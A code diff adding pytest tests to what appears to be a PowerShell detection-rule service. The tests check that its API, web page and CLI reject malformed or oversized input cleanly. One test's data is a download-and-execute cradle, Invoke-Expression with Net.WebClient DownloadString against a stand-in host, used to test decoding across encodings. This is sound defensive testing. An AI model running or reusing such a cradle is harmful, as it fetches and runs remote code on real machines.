@@ -370,3 +370,247 @@ def test_admin_upload_refuses_wrong_suffix(staff_client):
 
 def test_fixture_files_exist():
     assert Path(__file__).with_name("conftest.py").exists()
+
+
+# -- findings 7, 10, 11: the same hostile inputs through the API, the page and the CLI -----------
+
+
+def example_scriptblock() -> str:
+    from tests.conftest import EXAMPLES
+
+    path = EXAMPLES / "events" / "win_ps_webclient_downloadstring_iex.json"
+    return str(json.loads(path.read_text())["match"][0]["ScriptBlockText"])
+
+
+BIG_INT = "1" * 5000
+SURROGATE_EVENT = '{"ScriptBlockText": "\\ud800 Test-NetConnection", "EventID": 4104}'
+BIG_INT_EVENT = '{"ScriptBlockText": "x", "EventID": ' + BIG_INT + "}"
+
+
+@pytest.fixture
+def examples_catalog(db: None) -> None:
+    from catalog.services import import_rules
+    from rules.evaluate import clear_evaluator_cache
+    from tests.conftest import EXAMPLES
+
+    clear_evaluator_cache()
+    assert import_rules([str(EXAMPLES / "rules")]).created == 17
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        '{"scriptblock": "\\ud800"}',
+        '{"scriptblock": "ok \\udfff ok"}',
+        '{"event": ' + SURROGATE_EVENT + "}",
+        '{"events": [{"a": 1}, ' + SURROGATE_EVENT + "]}",
+        '{"event": {"\\ud800key": "v"}}',
+        '{"event": ' + BIG_INT_EVENT + "}",
+        '{"scriptblock": "x", "all_rules": ' + BIG_INT + "}",
+    ],
+)
+def test_api_refuses_lone_surrogates_and_huge_integers(examples_catalog, body):
+    response = Client().post("/api/sandbox/", body, content_type="application/json")
+    assert response.status_code == 400, response.content[:300]
+    payload = response.json()
+    assert payload["detail"] and "parameter" in payload
+
+
+@pytest.mark.parametrize(
+    ("text", "kind", "words"),
+    [
+        (SURROGATE_EVENT, "auto", "surrogate"),
+        (SURROGATE_EVENT, "json", "surrogate"),
+        ("[" + SURROGATE_EVENT + "]", "auto", "surrogate"),
+        (BIG_INT_EVENT, "auto", "digits"),
+        (BIG_INT_EVENT, "json", "digits"),
+        ("[1, 2, 3]", "json", "expected an event object"),
+        ("[1, 2, 3]", "auto", "expected an event object"),
+        ("42", "json", "expected an event object"),
+        ('"x"', "json", "expected an event object"),
+        ("[{}, 5]", "auto", "expected an event object"),
+    ],
+)
+def test_page_refuses_hostile_json_with_a_message(examples_catalog, text, kind, words):
+    response = Client().post("/sandbox/", {"text": text, "kind": kind})
+    assert response.status_code == 400, response.content[:300]
+    assert words in response.content.decode()
+
+
+@pytest.mark.parametrize(
+    ("data", "name"),
+    [
+        (b'{"ScriptBlockText": "\\ud800"}', "events.json"),
+        (BIG_INT_EVENT.encode(), "events.json"),
+        ("Get-Date \ud800 x".encode("utf-16-le", "surrogatepass"), "script.ps1"),
+        ("Get-Date \ud800 x".encode("utf-32-le", "surrogatepass"), "script.ps1"),
+    ],
+)
+def test_page_refuses_hostile_uploads_with_a_message(examples_catalog, data, name):
+    response = Client().post("/sandbox/", {"file": upload(data, name)})
+    assert response.status_code == 400, response.content[:300]
+    assert "sandbox-error" in response.content.decode()
+
+
+ENCODINGS = [
+    ("utf-8", b""),
+    ("utf-16-le", b"\xff\xfe"),
+    ("utf-16-be", b"\xfe\xff"),
+    ("utf-32-le", b"\xff\xfe\x00\x00"),
+    ("utf-32-be", b"\x00\x00\xfe\xff"),
+]
+
+
+@pytest.mark.parametrize(("codec", "bom"), ENCODINGS)
+@pytest.mark.parametrize("with_bom", [True, False])
+def test_a_ps1_upload_matches_the_same_in_every_encoding(examples_catalog, codec, bom, with_bom):
+    data = (bom if with_bom else b"") + example_scriptblock().encode(codec)
+    response = Client().post("/sandbox/", {"file": upload(data, "script.ps1")})
+    assert response.status_code == 200, response.content[:500]
+    page = response.content.decode()
+    assert "No rule matched" not in page and "0 matches" not in page
+    label = codec.upper().replace("-LE", "LE").replace("-BE", "BE").replace("UTF-8", "UTF-8")
+    assert f"Read as: scriptblock ({label})" in page
+
+
+@pytest.mark.parametrize(("codec", "bom"), ENCODINGS)
+def test_decoding_without_a_bom_equals_decoding_with_one(codec, bom):
+    from rules.text_input import decode_text
+
+    text = "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://x/é')\r\n"
+    assert decode_text(text.encode(codec))[0] == text
+    assert decode_text(bom + text.encode(codec))[0] == text
+
+
+def test_detect_mode_says_how_it_read_the_text(examples_catalog):
+    page = Client().post("/sandbox/", {"text": "Get-Date"}).content.decode()
+    assert "Read as: scriptblock" in page
+    page = Client().post("/sandbox/", {"text": '{"ScriptBlockText": "x"}'}).content.decode()
+    assert "Read as: JSON events" in page
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    "query",
+    [
+        "indicator=9223372036854775808",
+        "indicator=-1",
+        "indicator=1e400",
+        "indicator=1.5",
+        "exclusion=99999999999999999999999999",
+        "indicator=9223372036854775807",
+        "page=99999999999999999999999999",
+        "per_page=99999999999999999999",
+    ],
+)
+def test_rule_list_ignores_out_of_range_ids(query):
+    response = Client().get(f"/rules/?{query}")
+    assert response.status_code < 500
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    "url",
+    [
+        "/api/rules/?indicator=9223372036854775808",
+        "/api/rules/?limit=99999999999999999999999&offset=99999999999999999999999",
+        "/api/indicators/?min_corpus=99999999999999999999999",
+        "/api/indicators/99999999999999999999999/",
+        "/api/indicators/99999999999999999999999/rules/",
+        "/indicators/99999999999999999999999/",
+        "/exclusions/99999999999999999999999/",
+        "/indicators/?min_corpus=99999999999999999999999",
+        "/events/?event_id=99999999999999999999999",
+        "/api/events/?event_id=99999999999999999999999",
+    ],
+)
+def test_out_of_range_ids_are_never_a_server_error(url):
+    response = Client().get(url)
+    assert response.status_code < 500, (url, response.content[:300])
+
+
+def run_evaluate(*args: str) -> Any:
+    from django.core.management import CommandError, call_command
+
+    with pytest.raises(CommandError) as info:
+        call_command("evaluate", "--no-progress", *args)
+    return info.value
+
+
+@pytest.mark.parametrize(
+    ("content", "name", "words"),
+    [
+        (BIG_INT_EVENT, "big.json", "digits"),
+        (SURROGATE_EVENT, "surrogate.json", "surrogate"),
+        ("[1, 2, 3]", "numbers.json", "expected an event object"),
+        ("42", "number.json", "expected an event object"),
+        ("[" * 100_000, "deep.json", "nested too deeply"),
+    ],
+)
+def test_cli_refuses_hostile_files_with_one_line_and_exit_2(
+    examples_catalog, tmp_path, content, name, words
+):
+    path = tmp_path / name
+    path.write_text(content)
+    error = run_evaluate(str(path))
+    assert error.returncode == 2
+    assert words in str(error) and "\n" not in str(error)
+
+
+def test_cli_refuses_a_directory_a_missing_file_and_dev_zero(examples_catalog, tmp_path):
+    assert run_evaluate(str(tmp_path)).returncode == 2
+    assert "No such file" in str(run_evaluate(str(tmp_path / "missing.json")))
+    error = run_evaluate("/dev/zero")
+    assert error.returncode == 2 and "limit" in str(error)
+
+
+def test_cli_refuses_a_file_over_the_cap_without_reading_it(tmp_path, monkeypatch):
+    from rules import text_input
+
+    path = tmp_path / "big.jsonl"
+    with path.open("wb") as fh:
+        fh.truncate(text_input.MAX_FILE_BYTES + 1)  # sparse: nothing to read
+    reads: list[int] = []
+    real_open = open
+
+    class Spy:
+        def __init__(self, handle: Any) -> None:
+            self.handle = handle
+
+        def __enter__(self) -> Any:
+            return self
+
+        def __exit__(self, *exc: Any) -> None:
+            self.handle.close()
+
+        def fileno(self) -> int:
+            return self.handle.fileno()
+
+        def read(self, size: int = -1) -> bytes:
+            reads.append(size)
+            return self.handle.read(size)
+
+    monkeypatch.setattr(text_input, "open", lambda p, m: Spy(real_open(p, m)), raising=False)
+    with pytest.raises(EventInputError, match="limit"):
+        text_input.read_file_bytes(str(path))
+    assert reads == []
+
+
+def test_cli_subprocess_prints_no_traceback(tmp_path):
+    import subprocess
+    import sys
+
+    from tests.production.conftest import REPO
+
+    path = tmp_path / "big.json"
+    path.write_text(BIG_INT_EVENT)
+    done = subprocess.run(
+        [sys.executable, "manage.py", "evaluate", "--no-progress", str(path)],
+        cwd=REPO,
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+    assert done.returncode == 2
+    assert "Traceback" not in done.stderr
+    assert "digits" in done.stderr
